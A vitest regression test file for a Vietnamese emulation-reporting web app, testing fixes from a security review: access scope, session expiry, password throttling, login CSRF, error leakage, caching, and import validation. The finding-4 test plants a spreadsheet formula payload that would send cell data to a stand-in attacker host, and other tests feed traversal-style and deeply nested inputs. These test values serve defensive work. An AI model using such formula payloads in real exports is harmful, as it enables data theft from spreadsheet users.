import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Knex } from "knex";
import { createTestDatabase } from "./db.js";
import { createTestApp, csrfFrom, loginAs, postForm } from "./http.js";
import request from "supertest";
import path from "node:path";
import express from "express";
import ExcelJS from "exceljs";
import { errorHandler } from "../src/web/error-handler.js";
import { createLogger } from "../src/logger.js";
import { pruneExpiredSessions } from "../src/web/middleware/session.js";
import { createServices } from "../src/services.js";
import type { YearBundleInput } from "../src/bundle/schema.js";
import type { Database } from "../src/db/database.js";

/** Issue 15, "security round 2": one regression test (at least) per finding. */

let database: Database;
let db: Knex;
let app: ReturnType<typeof createTestApp>;

beforeAll(async () => {
  database = await createTestDatabase("demo-2022-open");
  db = database.knex;
  app = createTestApp(db);
});
afterAll(() => database.close());

const idOf = async (table: string, where: Record<string, string>): Promise<number> => (await db(table).where(where).first("id")).id;

describe("finding 1: an agency shared with another bloc is the admin's to manage", () => {
  let clerkId: number;
  beforeAll(async () => {
    // congan also belongs to a second bloc (possible through a bundle import)
    const [{ id: other }] = await db("blocs").insert({ code: "khoi-khac", name: "Khối khác", issuing_body: "UBND tỉnh", short_name: "KK", place_name: "Tỉnh" }).returning("id");
    await db("bloc_memberships").insert({ bloc_id: other, agency_id: await idOf("agencies", { code: "congan" }), joined_year: 2022 });
    clerkId = await idOf("users", { username: "canbo.congan" });
  });

  it("when the secretariat of one of its blocs resets its clerk's password, then the account is not found and the password stays", async () => {
    const sec = await loginAs(app, "thuongtruc");
    expect((await sec.get(`/admin/users/${clerkId}`)).status).toBe(404);
    const before = (await db("users").where({ id: clerkId }).first("password_hash")).password_hash;
    const res = await postForm(sec, "/account/password", `/admin/users/${clerkId}/password`, { password: "chiem-quyen-2026" });
    expect(res.status).toBe(404);
    expect((await db("users").where({ id: clerkId }).first("password_hash")).password_hash).toBe(before);
    expect((await sec.get("/admin/users")).text).not.toContain("canbo.congan");
    // a clerk of an agency wholly inside the bloc is still the secretariat's
    expect((await sec.get(`/admin/users/${await idOf("users", { username: "canbo.bchqs" })}`)).status).toBe(200);
  });

  it("when the secretariat renames the shared agency, then it is refused and the name stays; the admin may", async () => {
    const sec = await loginAs(app, "thuongtruc");
    const url = "/blocs/noichinh-tq/agencies/congan";
    const page = await sec.get(url);
    expect(page.text).toContain("còn thuộc Khối thi đua khác");
    const res = await postForm(sec, url, url, { name: "Tên bị đổi", shortName: "X", headName: "", headPosition: "" });
    expect(res.status).toBe(403);
    expect((await db("agencies").where({ code: "congan" }).first("name")).name).not.toBe("Tên bị đổi");
    const admin = await loginAs(app, "quantri");
    expect((await postForm(admin, url, url, { name: "Công an tỉnh", shortName: "CA" })).status).toBe(303);
    // the secretariat may still create a clerk only for agencies wholly inside its blocs
    const create = await postForm(sec, "/admin/users/new", "/admin/users", { username: "cb.congan2", password: "mat-khau-dai-du", fullName: "A", role: "clerk", agencyId: String(await idOf("agencies", { code: "congan" })) });
    expect(create.status).toBe(422);
  });
});

const sessionsOf = async (username: string): Promise<number> =>
  Number((await db("sessions").whereRaw("(sess::jsonb -> 'passport' ->> 'user') = ?", [String(await idOf("users", { username }))]).count("* as n"))[0]!.n);

describe("finding 3: a new password ends the other sessions; a session lives 12 hours at most", () => {
  it("when the admin resets a clerk's password, then the clerk's open session ends", async () => {
    const clerk = await loginAs(app, "canbo.stp");
    expect((await clerk.get("/")).status).toBe(200);
    const admin = await loginAs(app, "quantri");
    const id = await idOf("users", { username: "canbo.stp" });
    expect((await postForm(admin, `/admin/users/${id}`, `/admin/users/${id}/password`, { password: "dat-lai-2026-moi" })).status).toBe(303);
    const after = await clerk.get("/");
    expect(after.status).toBe(303);
    expect(after.headers.location).toBe("/login");
    expect(await sessionsOf("canbo.stp")).toBe(0);
  });

  it("when someone changes their own password, then their other sessions end and this one stays", async () => {
    const here = await loginAs(app, "canbo.toaan");
    const elsewhere = await loginAs(app, "canbo.toaan");
    const res = await postForm(here, "/account/password", "/account/password", { currentPassword: "thidua2022", newPassword: "mat-khau-moi-toaan", confirmPassword: "mat-khau-moi-toaan" });
    expect(res.status).toBe(303);
    expect((await here.get("/")).status).toBe(200);
    expect((await elsewhere.get("/")).status).toBe(303);
    expect(await sessionsOf("canbo.toaan")).toBe(1);
  });

  it("when a session was opened more than 12 hours ago, then it has ended however active it was", async () => {
    const agent = await loginAs(app, "bantdkt");
    expect((await agent.get("/")).status).toBe(200);
    const userId = String(await idOf("users", { username: "bantdkt" }));
    const thirteenHoursAgo = Date.now() - 13 * 60 * 60_000;
    await db("sessions")
      .whereRaw("(sess::jsonb -> 'passport' ->> 'user') = ?", [userId])
      .update({ sess: db.raw("jsonb_set(sess::jsonb, '{signedInAt}', to_jsonb(?::bigint))::json", [thirteenHoursAgo]) });
    const res = await agent.get("/");
    expect(res.status).toBe(303);
    expect(res.headers.location).toBe("/login");
  });
});

describe("finding 8: the current-password check is throttled like the login", () => {
  it("when the current password is wrong 5 times, then the 6th try is refused even when right, saying how long to wait", async () => {
    let clock = new Date("2026-11-26T08:00:00Z");
    const throttled = createTestApp(db, { now: () => clock });
    const agent = await loginAs(throttled, "canbo.thanhtra");
    const change = (current: string) =>
      postForm(agent, "/account/password", "/account/password", { currentPassword: current, newPassword: "mat-khau-thanhtra-moi", confirmPassword: "mat-khau-thanhtra-moi" });
    for (let i = 0; i < 5; i++) {
      const wrong = await change(`doan-sai-${i}`);
      expect(wrong.status).toBe(422);
      expect(wrong.text).toContain("Mật khẩu hiện tại không đúng.");
      clock = new Date(clock.getTime() + 60_000);
    }
    const sixth = await change("thidua2022");
    expect(sixth.status).toBe(422);
    expect(sixth.text).toMatch(/vui lòng thử lại sau \d+ phút/);
    await loginAs(app, "canbo.thanhtra"); // unchanged: the old password still works once the wait is over
    const audit = await db("audit_log").where({ username: "canbo.thanhtra" }).pluck("action");
    expect(audit).toEqual(expect.arrayContaining(["password.failure", "password.locked"]));
  });
});

describe("finding 6: anonymous visits write no session; old sessions are pruned; a rescue is bounded", () => {
  it("when 300 anonymous visitors open the login page, then no session row is written, and the login form is still protected", async () => {
    const before = Number((await db("sessions").count("* as n"))[0]!.n);
    for (let i = 0; i < 300; i++) expect((await request(app).get("/login")).status).toBe(200);
    expect((await request(app).get("/")).status).toBe(303);
    expect(Number((await db("sessions").count("* as n"))[0]!.n)).toBe(before);
    // a token from one visitor's page does not work with another visitor's cookie (login CSRF)
    const attacker = request.agent(app);
    const token = csrfFrom((await attacker.get("/login")).text);
    const victim = request.agent(app);
    await victim.get("/login");
    expect((await victim.post("/login").type("form").send({ _csrf: token, username: "lanhdao", password: "thidua2022" })).status).toBe(403);
    expect((await request(app).post("/login").type("form").send({ _csrf: token, username: "lanhdao", password: "thidua2022" })).status).toBe(403);
  });

  it("when a visitor is sent to log in, then afterwards they come back to the page they asked for", async () => {
    const agent = request.agent(app);
    expect((await agent.get("/admin/users")).status).toBe(303);
    const page = await agent.get("/login");
    const res = await agent.post("/login").type("form").send({ _csrf: csrfFrom(page.text), username: "quantri", password: "thidua2022" });
    expect(res.headers.location).toBe("/admin/users");
  });

  it("when a signed-in user keeps working, then the session's expiry is written at most once a minute", async () => {
    const agent = await loginAs(app, "lanhdao");
    const sid = async () => {
      const rows = await db("sessions").whereRaw("(sess::jsonb -> 'passport' ->> 'user') = ?", [String(await idOf("users", { username: "lanhdao" }))]).select("sid", "expired");
      return rows.sort((a, b) => new Date(b.expired).getTime() - new Date(a.expired).getTime())[0]!;
    };
    await agent.get("/");
    const first = await sid();
    for (let i = 0; i < 3; i++) await agent.get("/account/password");
    expect(new Date((await sid()).expired).getTime()).toBe(new Date(first.expired).getTime());
    // written 2 minutes ago: the next request moves the expiry forward
    const earlier = new Date(new Date(first.expired).getTime() - 2 * 60_000);
    await db("sessions").where({ sid: first.sid }).update({ expired: earlier });
    const before = Date.now();
    await agent.get("/");
    // The idle timeout (30 minutes in the tests) counts from this request.
    const moved = new Date((await sid()).expired).getTime();
    expect(moved).toBeGreaterThanOrEqual(before + 30 * 60_000);
    expect(moved).toBeLessThanOrEqual(Date.now() + 30 * 60_000);
  });

  it("when sessions expired more than 24 hours ago, then pruning deletes them and keeps the rest", async () => {
    const now = new Date();
    const row = (sid: string, hoursAgo: number) => ({ sid, sess: JSON.stringify({ cookie: {} }), expired: new Date(now.getTime() - hoursAgo * 60 * 60_000) });
    await db("sessions").insert([row("cu-25h", 25), row("cu-2h", 2), row("con-han", -1)]);
    expect(await pruneExpiredSessions(db, now)).toBeGreaterThanOrEqual(1);
    expect(await db("sessions").whereIn("sid", ["cu-25h", "cu-2h", "con-han"]).orderBy("sid").pluck("sid")).toEqual(["con-han", "cu-2h"]);
  });

  it("when a form is posted after its session expired, then it is rescued as a draft within 24 hours and not after", async () => {
    const clock = new Date("2022-06-12T10:00:00+07:00");
    const dated = createTestApp(db, { now: () => clock });
    const url = "/blocs/noichinh-tq/years/2022/periods/2/reports/vks";
    const reportId = async () => (await db("reports as r").join("periods as p", "p.id", "r.period_id").where({ "p.number": 2, "r.agency_id": await idOf("agencies", { code: "vks" }) }).first("r.id")).id;
    await db("reports").where({ id: await reportId() }).update({ status: "returned", return_comment: "Bổ sung" });
    const userId = String(await idOf("users", { username: "canbo.vks" }));
    const expireSessions = (msAgo: number) => db("sessions").whereRaw("(sess::jsonb -> 'passport' ->> 'user') = ?", [userId]).update({ expired: new Date(Date.now() - msAgo) });
    const typeAfterExpiry = async (msAgo: number, text: string) => {
      const clerk = await loginAs(dated, "canbo.vks");
      const page = await clerk.get(url);
      expect(page.status).toBe(200);
      const version = /name="version" value="(\d*)"/.exec(page.text)?.[1] ?? "";
      await expireSessions(msAgo);
      return clerk.post(url).type("form").send({ _csrf: csrfFrom(page.text), version, action: "submit", general: text });
    };
    const general = async () => (await db("reports").where({ id: await reportId() }).first("content", "status"));

    const soon = await typeAfterExpiry(60_000, "Gõ lúc vừa hết phiên");
    expect(soon.status).toBe(303);
    expect(soon.headers.location).toBe("/login");
    expect((await general()).content.general).toBe("Gõ lúc vừa hết phiên");
    expect((await general()).status).toBe("returned"); // only ever a draft

    const late = await typeAfterExpiry(25 * 60 * 60_000, "Gõ từ hôm kia");
    expect(late.status).toBe(403);
    expect((await general()).content.general).toBe("Gõ lúc vừa hết phiên");
  });
});

describe("finding 5: no stack or SQL on error pages by default; an id beyond the integer range is 404", () => {
  const failing = (showErrorDetail?: boolean) => {
    const mini = express();
    mini.set("view engine", "ejs");
    mini.set("views", path.resolve("views"));
    mini.get("/boom", () => {
      throw new Error('relation "secret_table" does not exist — select * from users');
    });
    mini.use(errorHandler({ showErrorDetail: showErrorDetail ?? false, logger: createLogger("silent") }));
    return mini;
  };

  it("when a request fails, then the page says so in Vietnamese without the stack or the SQL, unless details were asked for", async () => {
    const plain = await request(failing()).get("/boom");
    expect(plain.status).toBe(500);
    expect(plain.text).toContain("Đã có lỗi xảy ra");
    expect(plain.text).not.toContain("secret_table");
    expect(plain.text).not.toMatch(/at .*\.ts:\d+/);
    const dev = await request(failing(true)).get("/boom");
    expect(dev.text).toContain("secret_table");
  });

  it("when any path carries an id or number beyond the integer range, then the answer is 404, never 500", async () => {
    const admin = await loginAs(app, "quantri");
    const clerk = await loginAs(app, "canbo.bchqs");
    const huge = "99999999999";
    const Y = "/blocs/noichinh-tq/years/2022";
    const paths = [
      `/admin/users/${huge}`,
      `/admin/users/-1`,
      `/blocs/noichinh-tq/years/${huge}/dashboard`,
      `${Y}/periods/${huge}/reports`,
      `${Y}/periods/1/reports/bchqs/attachments/${huge}`,
      `${Y}/periods/1/reports/bchqs/versions/${huge}`,
      `${Y}/campaigns/${huge}`,
      `${Y}/criteria/${huge}`,
      `${Y}/periods/${huge}`,
      `/blocs/noichinh-tq/years/${huge}/bundle.json`,
    ];
    for (const p of paths) {
      expect([p, (await admin.get(p)).status]).toEqual([p, 404]);
    }
    expect((await clerk.get(`${Y}/periods/1/reports/bchqs/attachments/${huge}`)).status).toBe(404);
    const post = await postForm(admin, "/account/password", `/admin/users/${huge}/password`, { password: "mat-khau-dai-du-2026" });
    expect(post.status).toBe(404);
  });
});

describe("finding 11: private pages and downloads are never cached", () => {
  it("when a signed-in user opens a page or downloads a file, then the answer says Cache-Control: no-store", async () => {
    const Y = "/blocs/noichinh-tq/years/2022";
    const sec = await loginAs(app, "thuongtruc");
    for (const p of ["/", "/admin/users", `${Y}/dashboard`, `${Y}/ranking`, `${Y}/ranking.csv`, `${Y}/ranking.xlsx`, `${Y}/ranking.pdf`, `${Y}/ranking.json`, `${Y}/bundle.json`, `${Y}/periods/1/reports/bchqs`, "/audit", "/khong-co-trang-nay"]) {
      const res = await sec.get(p);
      expect([p, res.headers["cache-control"]]).toEqual([p, expect.stringContaining("no-store")]);
      // Nothing is kept to revalidate, so no body is hashed for an ETag (issue 16).
      expect([p, res.headers.etag]).toEqual([p, undefined]);
    }
    // Static files are cached and revalidated: they keep theirs.
    expect((await sec.get("/css/main.css")).headers.etag).toBeTruthy();
    const clerk = await loginAs(app, "canbo.bchqs");
    expect((await clerk.get(`${Y}/sheets/bchqs`)).headers["cache-control"]).toContain("no-store");
  });
});

describe("finding 13: the role and the scope are checked before the body", () => {
  it("when a refused user posts a malformed form, then the answer is the refusal (403/404), not a validation error", async () => {
    const Y = "/blocs/noichinh-tq/years/2022";
    const sec = await loginAs(app, "thuongtruc");
    const observer = await loginAs(app, "bantdkt");
    const leaderId = await idOf("users", { username: "lanhdao" });
    expect((await postForm(sec, "/account/password", `/admin/users/${leaderId}/active`, { active: "co-le" })).status).toBe(404);
    expect((await postForm(observer, "/account/password", `${Y}/ranking/reopen`, { reason: "x".repeat(3000) })).status).toBe(403);
    const [{ id: other }] = await db("blocs").insert({ code: "khoi-rieng", name: "Khối riêng", issuing_body: "UBND tỉnh", short_name: "KR", place_name: "Tỉnh" }).returning("id");
    const [{ id: foreign }] = await db("agencies").insert({ code: "ngoai-khoi", name: "Cơ quan ngoài Khối", short_name: "NK" }).returning("id");
    await db("bloc_memberships").insert({ bloc_id: other, agency_id: foreign, joined_year: 2022 });
    expect((await postForm(sec, "/account/password", "/blocs/noichinh-tq/agencies/ngoai-khoi/leave", { year: "abc" })).status).toBe(404);
    expect((await postForm(sec, "/account/password", "/blocs/noichinh-tq/agencies/ngoai-khoi", { name: "" })).status).toBe(404);
  });
});

describe("finding 4: user text cannot become a formula in CSV or XLSX downloads", () => {
  it("when an agency name starts with = or @, then ranking.csv marks it as text and ranking.xlsx keeps it a text cell", async () => {
    const evil = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")';
    const original = (await db("agencies").where({ code: "thads" }).first("name")).name;
    await db("agencies").where({ code: "thads" }).update({ name: evil });
    await db("year_agencies").where({ agency_id: await idOf("agencies", { code: "thads" }) }).update({ name: evil });
    try {
      const sec = await loginAs(app, "thuongtruc");
      const Y = "/blocs/noichinh-tq/years/2022";
      const csv = await sec.get(`${Y}/ranking.csv`);
      expect(csv.status).toBe(200);
      const fields = csv.text.split(/\r\n/).flatMap((line) => line.split(";"));
      expect(fields.some((f) => /^"?[=+@]/.test(f))).toBe(false);
      expect(csv.text).toContain(`'=HYPERLINK(""http://ke-xau.example/?d=""&A1,""Bấm vào đây"")`);
      const xlsx = await sec.get(`${Y}/ranking.xlsx`).buffer(true).parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => cb(null, Buffer.concat(chunks)));
      });
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(xlsx.body as Parameters<typeof book.xlsx.load>[0]);
      const cells: ExcelJS.Cell[] = [];
      book.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
      const cell = cells.find((c) => String(c.value).includes("HYPERLINK"));
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.value).toBe(evil);
      expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    } finally {
      await db("agencies").where({ code: "thads" }).update({ name: original });
      await db("year_agencies").where({ agency_id: await idOf("agencies", { code: "thads" }) }).update({ name: original });
    }
  });
});

describe("finding 12: a bundle's codes obey the web forms' rules; deep nesting is refused by its path", () => {
  const importing = async (mutate: (doc: YearBundleInput) => void, rewrite: (json: string) => string = (j) => j) => {
    const admin = await loginAs(app, "quantri");
    const token = csrfFrom((await admin.get("/account/password")).text);
    const doc = JSON.parse(JSON.stringify(await createServices(db).bundle.exportYear("noichinh-tq", 2022)));
    doc.year.year = 2040;
    mutate(doc);
    return admin.post("/admin/import-year").set("x-csrf-token", token).attach("bundle", Buffer.from(rewrite(JSON.stringify(doc))), "bundle.json");
  };

  it("when a bloc, agency or campaign code breaks the form's rule, then the import is refused naming the field", async () => {
    const cases: [(d: YearBundleInput) => void, string][] = [
      [(d) => (d.bloc.code = "Khối/../x"), "bloc.code"],
      [(d) => (d.agencies[0]!.code = "Công An"), "agencies[0].code"],
      [(d) => (d.campaigns[0]!.code = "phong trào 1"), "campaigns[0].code"],
      [(d) => (d.criteria[0]!.code = "<b>I</b>"), "criteria[0].code"],
    ];
    for (const [mutate, field] of cases) {
      const res = await importing(mutate);
      expect([field, res.status]).toEqual([field, 422]);
      expect(res.text).toContain(field);
    }
    expect(Number((await db("emulation_years").where({ year: 2040 }).count("* as n"))[0]!.n)).toBe(0);
  });

  it("when a value is nested thousands of levels deep, then the import answers 422 with that value's path, never 500", async () => {
    const deep = '{"x":'.repeat(5000) + '"đáy"' + "}".repeat(5000);
    const res = await importing(
      (d) => (d.reports[0]!.content.general = "__SAU__"),
      (json) => json.replace('"__SAU__"', deep),
    );
    expect(res.status).toBe(422);
    expect(res.text).toContain("reports[0].content.general.x");
    expect(res.text).toContain("lồng quá sâu");
  });
});
